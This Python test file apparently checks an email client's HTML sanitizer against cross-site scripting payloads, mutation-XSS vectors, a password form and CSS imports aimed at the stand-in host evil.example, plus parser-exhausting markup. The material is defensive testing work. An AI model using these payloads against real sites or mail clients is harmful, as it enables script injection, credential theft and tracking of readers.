"""Inbound HTML, made safe and read as text (S1, S28, S29, P1, P14)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from justhtml import JustHTML

from deskhand.kernel.html import MAX_DEPTH, hostile, html_to_text, sanitize, strip_tags

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#1;data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="da&#9;ta:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#1;cid:x">x</a>',
    '<a href="deskhand&#10;-remote:x">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import url(//evil.example/x.css);</style>",
    '<p style="background-color:url(//evil.example)">x</p>',
    '<p style="position:fixed;top:0;color:red">x</p>',
    '<form action="//evil.example"><input name=password></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<table background="https://evil.example/c"><tr><td>x</table><img srcset="https://evil.example/a 1x">',
]
FORBIDDEN = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|meta|link|base|svg|math)|\son\w+=|javascript:|url\(|position\s*:"
    r"|srcset=|background=|\ssrc=\"(?!cid:|data:image/(?:png|gif|jpe?g|webp);)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_runs_loads_or_covers_the_page_is_left(markup: str) -> None:
    """S1, S28, S29."""
    clean = sanitize(f"<p>Before</p>{markup}<p>After</p>").html

    assert FORBIDDEN.search(clean) is None
    assert "Before" in clean


def test_remote_images_wait_for_a_click_and_inline_ones_stay() -> None:
    """S28."""
    found = sanitize(
        '<img src="https://shop.example/a.png" alt="A"><img src="cid:a@b"><img src="//x.example/t.gif">'
    )

    assert found.html == '<img data-src="https://shop.example/a.png" alt="A"><img src="cid:a@b"><img>'
    assert found.remote_images


def test_a_text_that_looks_like_our_mark_stays_a_text() -> None:
    found = sanitize('<p>src="deskhand-remote:x"</p><a href="deskhand-remote:x">y</a>')

    assert "data-src" not in found.html
    assert "href" not in found.html


def test_links_open_outside_and_tell_nothing() -> None:
    clean = sanitize('<a href="https://shop.example/" target="_top" rel="opener">x</a>').html

    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert "_top" not in clean


@pytest.mark.parametrize(
    ("markup", "why"),
    [
        ("<div>" * 20_000 + "x", "HTML nested too deeply"),
        ("<ul><li>" * 20_000, "HTML nested too deeply"),
        ("<p " + " ".join(f"a{i}=1" for i in range(60_000)) + ">x</p>", "HTML with too many attributes"),
        ('<p><a href="' + "A" * 10_000 + '">' + "<p>a" * 2500, "HTML that grows"),
        ("<b>x</b>" * 20_000, "HTML with too many tags"),
        ("x" * 2_000_001, "HTML too long"),
    ],
)
def test_markup_that_would_take_a_parser_apart_becomes_its_text(markup: str, why: str) -> None:
    """P1: these cost seconds or gigabytes in every HTML5 parser."""
    found = sanitize(markup)

    assert found.reduced == why
    assert len(found.html) <= len(markup) + 20_000
    assert re.sub(r"</?div>|<br>", "", found.html).count("<") == 0


def test_an_ordinary_newsletter_is_not_taken_for_hostile() -> None:
    cell = '<table width="100%" cellpadding="0"><tr><td style="padding:10px">'
    nested = cell * (MAX_DEPTH // 4 - 1) + "<font face=Arial><p>One<p>Two</font>" + "</td></tr></table>" * 49

    assert hostile(nested + "<p>unclosed" * 500 + "<li>item" * 500) == ""


def test_text_keeps_lists_tables_and_link_addresses() -> None:
    """P14."""
    text = html_to_text(
        "<h1>Order</h1><ul><li>one</li><li>two</li></ul><table><tr><td>Sum</td><td>5 €</td></tr></table>"
        '<p>See <a href="https://shop.example/o/42">your order</a> at <a href="https://shop.example">shop.example</a>.</p>'
    )

    assert "one\n" in text
    assert "Sum 5 €" in text
    assert "your order <https://shop.example/o/42>" in text
    assert text.count("shop.example") == 2


def test_text_leaves_out_what_nobody_sees() -> None:
    """P14, S27."""
    text = html_to_text(
        '<title>t</title><style>p{}</style><p>seen</p><p style="display:none">hidden</p><script>x</script>'
    )

    assert text == "seen"


def test_text_of_deep_markup_is_still_read() -> None:
    """P14: readers return nothing past 255 levels."""
    assert html_to_text("<div>" * 400 + "deep &amp; dark" + "</div>" * 400) == "deep & dark"


def test_stripping_reads_paragraphs_as_lines() -> None:
    assert strip_tags("<p>one<br>two</p><script>no</script><p>three") == "one\ntwo\n\nthree"


PIECES = st.sampled_from(
    [
        *HOSTILE,
        "<p>",
        "</p>",
        "<b>",
        "<a href=",
        '"',
        "'",
        ">",
        "<",
        "<!--",
        "-->",
        "text",
        "&lt;",
        "<svg>",
        "<td>",
        "<math>",
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=12))
def test_no_mixture_of_fragments_gets_through(pieces: list[str]) -> None:
    """S1, with a second parser's opinion."""
    clean = sanitize("".join(pieces)).html

    tags = re.sub(r'="[^"]*"', "=", clean)
    assert re.search(r"<(?!/?(?:p|b|a|img|table|tbody|tr|td|div|br)\b)", tags) is None
    second = JustHTML(clean, sanitize=False)
    assert [
        node.name for node in second.query("script, style, iframe, form, object, svg, math, meta, link")
    ] == []
    assert [
        node for node in second.query("*") if any(name.startswith("on") for name in node.attrs or {})
    ] == []


@settings(max_examples=300)
@given(st.text(alphabet="<>/pabdiv =\"'!-&;x", max_size=200))
def test_any_text_can_be_read_as_html(markup: str) -> None:
    for text in (html_to_text(markup), strip_tags(markup), sanitize(markup).html):
        assert text == text.encode().decode()
